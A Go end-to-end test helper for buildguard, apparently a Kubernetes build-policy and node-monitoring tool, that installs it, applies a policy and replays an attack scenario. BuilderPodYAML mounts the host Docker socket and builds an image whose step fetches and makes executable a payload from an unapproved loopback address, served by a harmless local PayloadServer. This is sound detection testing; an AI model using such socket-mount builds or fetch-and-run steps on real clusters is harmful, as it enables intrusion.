package e2e

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"buildguard.dev/buildguard/internal/testpostgres"
)

// What the e2e tests and the demo both do on the real node: install
// buildguard as users do, and play AN1261 on the node.

// KubectlFunc runs kubectl with stdin (none when "") and returns its
// output: the tests' runs it, the demo's also shows it.
type KubectlFunc func(stdin string, args ...string) (string, error)

// NodePolicy enforces in every namespace not labeled otherwise: images
// only from the node registry's e2e/ repositories, built at least 10
// minutes before, on approved nodes only, downloading from the node alone.
const NodePolicy = `apiVersion: buildguard.dev/v1alpha1
kind: ClusterBuildPolicy
metadata:
  name: default
spec:
  mode: enforce
  failurePolicy: deny
  registries:
    allow: ["` + NodeRegistry + `/e2e/**"]
    insecure: ["` + NodeRegistry + `"]
  freshness:
    minAge: 10m
  trustedSources: ["deb.debian.org"]
  nodeEvidence:
    approvedBuildNodes: ["ci-runner-*"]
    trustedDestinations: ["` + NodeIP + `/32", "*.debian.org"]
`

// dbYAML is the store's PostgreSQL server, outside the cluster, as a
// managed database is reached: a Service without selector and its
// EndpointSlice, postgres.db.svc:5432.
const dbYAML = `apiVersion: v1
kind: Namespace
metadata: {name: db}
---
apiVersion: v1
kind: Service
metadata: {name: postgres, namespace: db}
spec:
  ports: [{name: postgres, port: 5432, protocol: TCP}]
---
apiVersion: discovery.k8s.io/v1
kind: EndpointSlice
metadata:
  name: postgres-1
  namespace: db
  labels: {kubernetes.io/service-name: postgres}
addressType: IPv4
endpoints: [{addresses: ["` + NodeIP + `"]}]
ports: [{name: postgres, port: 5432, protocol: TCP}]
`

// Store is the PostgreSQL server of buildguard's store, on the node's
// address outside the cluster.
type Store struct {
	*testpostgres.Server
	// HostDSN reaches the database from this machine; PodDSN from the
	// pods, through the Service postgres.db.
	HostDSN, PodDSN string
}

// StartStore starts Debian's PostgreSQL on NodeIP:5432, open to the pods'
// range, with a database for buildguard, and the Service and
// EndpointSlice that lead the pods to it. The caller stops it.
func (n *Node) StartStore(ctx context.Context, dir string) (*Store, error) {
	srv, err := testpostgres.Launch(dir, testpostgres.Options{Host: NodeIP, Port: 5432, Clients: []string{PodCIDR}})
	if err != nil {
		return nil, err
	}
	s := &Store{Server: srv}
	if s.HostDSN, err = srv.CreateDatabase(ctx); err != nil {
		srv.Stop()
		return nil, err
	}
	s.PodDSN = strings.Replace(s.HostDSN, "@"+NodeIP+":5432/", "@postgres.db.svc:5432/", 1)
	if s.PodDSN == s.HostDSN {
		srv.Stop()
		return nil, fmt.Errorf("the store's DSN is not on %s:5432", NodeIP)
	}
	if _, err := n.Kubectl(ctx, strings.NewReader(dbYAML), "apply", "-f", "-"); err != nil {
		srv.Stop()
		return nil, err
	}
	return s, nil
}

// Install installs buildguard as docs/install.md tells users to: the
// Secret with the store's DSN, then a kustomization of their own in dir
// that takes manifests/overlays/postgres (self-managed CA, PostgreSQL,
// node agent) with the image pinned by digest, applied with kubectl
// apply -k; then kubectl rollout status for buildguard and the node
// agent. It returns when both are rolled out and the CA is in both
// webhook configurations.
func (n *Node) Install(ctx context.Context, kubectl KubectlFunc, img *ImageBuild, podDSN, dir string) error {
	if _, err := kubectl("", "create", "namespace", "buildguard-system"); err != nil {
		return err
	}
	if _, err := kubectl("", "-n", "buildguard-system", "create", "secret", "generic", "buildguard-store", "--from-literal=dsn="+podDSN); err != nil {
		return err
	}
	_, digest, ok := strings.Cut(img.Ref, "@")
	if !ok {
		return fmt.Errorf("image %s is not pinned by digest", img.Ref)
	}
	// kustomize takes a relative path only.
	overlay, err := filepath.Rel(dir, filepath.Join(n.root, "manifests", "overlays", "postgres"))
	if err != nil {
		return err
	}
	kust := fmt.Sprintf(`# buildguard from its repository, with the PostgreSQL store, pinned by digest.
apiVersion: kustomize.config.k8s.io/v1beta1
kind: Kustomization
resources:
  - %s
images:
  - name: ghcr.io/buildguard/buildguard
    newName: %s
    digest: %s
`, overlay, ImageRepo, digest)
	if err := os.WriteFile(filepath.Join(dir, "kustomization.yaml"), []byte(kust), 0o644); err != nil {
		return err
	}
	if _, err := kubectl("", "apply", "-k", dir); err != nil {
		return err
	}
	if _, err := kubectl("", "-n", "buildguard-system", "rollout", "status", "deployment/buildguard", "--timeout=300s"); err != nil {
		return err
	}
	if _, err := kubectl("", "-n", AgentNamespace, "rollout", "status", "daemonset/buildguard-node-agent", "--timeout=180s"); err != nil {
		return err
	}
	return n.waitFor(ctx, 60*time.Second, nil, "the CA in both webhook configurations", func() error {
		ca, err := n.Kubectl(ctx, nil, "-n", "buildguard-system", "get", "secret", "buildguard-ca", "-o", `jsonpath={.data.ca\.crt}`)
		if err != nil || ca == "" {
			return fmt.Errorf("no CA yet: %v", err)
		}
		for _, kind := range []string{"validatingwebhookconfiguration", "mutatingwebhookconfiguration"} {
			got, err := n.Kubectl(ctx, nil, "get", kind, "buildguard", "-o", "jsonpath={.webhooks[0].clientConfig.caBundle}")
			if err != nil || got != ca {
				return fmt.Errorf("%s: caBundle is not buildguard-ca's ca.crt (%v)", kind, err)
			}
		}
		return nil
	})
}

// ApplyPolicy applies policy once the CRDs are established and waits
// until buildguard has accepted it.
func (n *Node) ApplyPolicy(ctx context.Context, kubectl KubectlFunc, policy string) error {
	if _, err := n.Kubectl(ctx, nil, "wait", "--for=condition=Established", "crd/clusterbuildpolicies.buildguard.dev", "--timeout=60s"); err != nil {
		return err
	}
	if _, err := kubectl(policy, "apply", "-f", "-"); err != nil {
		return err
	}
	return n.waitFor(ctx, 60*time.Second, nil, "the policy accepted", func() error {
		out, err := n.Kubectl(ctx, nil, "get", "clusterbuildpolicy", "default", "-o", `jsonpath={.status.conditions[?(@.type=="Accepted")].status}`)
		if err != nil || out != "True" {
			return fmt.Errorf("Accepted=%q %v", out, err)
		}
		return nil
	})
}

// CreateNamespaces creates namespaces and waits for their default service
// accounts.
func (n *Node) CreateNamespaces(ctx context.Context, kubectl KubectlFunc, names ...string) error {
	for _, ns := range names {
		if _, err := kubectl("", "create", "namespace", ns); err != nil {
			return err
		}
		if err := n.waitFor(ctx, 30*time.Second, nil, "service account default in "+ns, func() error {
			_, err := n.Kubectl(ctx, nil, "-n", ns, "get", "serviceaccount", "default")
			return err
		}); err != nil {
			return err
		}
	}
	return nil
}

// AgentNamespace is the node agent's namespace (manifests/node-agent).
const AgentNamespace = "buildguard-node-agent"

// BuilderPodYAML is a pod in namespace builds that builds on its node
// through the node's Docker socket, as CI jobs and attackers do, with the
// docker command of image cli: its one build step downloads
// http://127.0.0.23:port/payload, from an address nobody approved, and it
// pushes the image as target.
func BuilderPodYAML(cli, target string, port int) string {
	return fmt.Sprintf(`apiVersion: v1
kind: Pod
metadata: {name: builder, namespace: builds}
spec:
  restartPolicy: Never
  containers:
  - name: build
    image: %[1]s
    env: [{name: IMG, value: "%[2]s"}]
    command:
    - sh
    - -c
    - |
      printf 'FROM %[3]s\nRUN wget -O /bin/payload http://127.0.0.23:%[4]d/payload && chmod +x /bin/payload\n' > /tmp/Dockerfile
      docker build --network host -t "$IMG" -f /tmp/Dockerfile /tmp && docker push "$IMG"
    volumeMounts: [{name: docker, mountPath: /var/run/docker.sock}]
  volumes:
  - name: docker
    hostPath: {path: /run/docker.sock, type: Socket}
`, cli, target, NodeRegistry+"/base/busybox:1", port)
}

// PayloadServer serves /payload on addr ("127.0.0.23:0": the unknown IP of
// AN1261, on loopback), holding each answer for 2.5s so that the
// connection is open across a /proc sampling interval of the node agent.
// It returns the port.
func PayloadServer(addr string) (port int, stop func(), err error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return 0, nil, err
	}
	srv := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-time.After(2500 * time.Millisecond):
		case <-r.Context().Done():
		}
		io.WriteString(w, "#!/bin/sh\necho payload\n")
	})}
	go srv.Serve(ln)
	return ln.Addr().(*net.TCPAddr).Port, func() { srv.Close() }, nil
}

// WaitPod waits until pod namespace/name has completed, and returns an
// error with its log when it failed.
func (n *Node) WaitPod(ctx context.Context, namespace, name string, timeout time.Duration) error {
	return n.waitFor(ctx, timeout, nil, "pod "+namespace+"/"+name+" completes", func() error {
		phase, err := n.Kubectl(ctx, nil, "-n", namespace, "get", "pod", name, "-o", "jsonpath={.status.phase}")
		if phase == "Failed" {
			logs, _ := n.Kubectl(ctx, nil, "-n", namespace, "logs", name)
			return errStop{fmt.Errorf("pod %s/%s failed:\n%s", namespace, name, logs)}
		}
		if err != nil || phase != "Succeeded" {
			return fmt.Errorf("phase %q %v", phase, err)
		}
		return nil
	})
}

// errStop ends a waitFor at once.
type errStop struct{ error }

// AgentMetric reads one metric of the node agent, from its pod on the
// node; -1 when it cannot.
func (n *Node) AgentMetric(ctx context.Context, name string) float64 {
	ip, err := n.Kubectl(ctx, nil, "-n", AgentNamespace, "get", "pods", "-l", "app.kubernetes.io/component=node-agent",
		"--field-selector=status.phase=Running", "-o", "jsonpath={.items[0].status.podIP}")
	if err != nil || ip == "" {
		return -1
	}
	m, err := agentMetrics(ip + ":9090")
	if err != nil {
		return -1
	}
	v, ok := m[name]
	if !ok {
		return 0
	}
	return v
}

// WaitAgentReport waits until the node agent has sent at least builds
// builds and connections connections.
func (n *Node) WaitAgentReport(ctx context.Context, builds, connections float64) error {
	return n.waitFor(ctx, 2*time.Minute, nil, "the node agent reports the build and its connection", func() error {
		b := n.AgentMetric(ctx, `buildguard_node_agent_items_sent_total{kind="build"}`)
		c := n.AgentMetric(ctx, "buildguard_node_agent_connections_reported_total")
		if b < builds || c < connections {
			return fmt.Errorf("%v builds, %v connections sent", b, c)
		}
		return nil
	})
}

// agentMetrics reads the agent's Prometheus metrics into name{labels} →
// value.
func agentMetrics(addr string) (map[string]float64, error) {
	c := &http.Client{Timeout: 2 * time.Second}
	resp, err := c.Get("http://" + addr + "/metrics")
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	out := map[string]float64{}
	sc := bufio.NewScanner(resp.Body)
	for sc.Scan() {
		line := sc.Text()
		if strings.HasPrefix(line, "#") {
			continue
		}
		i := strings.LastIndexByte(line, ' ')
		if i < 0 {
			continue
		}
		v, err := strconv.ParseFloat(line[i+1:], 64)
		if err == nil {
			out[line[:i]] = v
		}
	}
	return out, sc.Err()
}
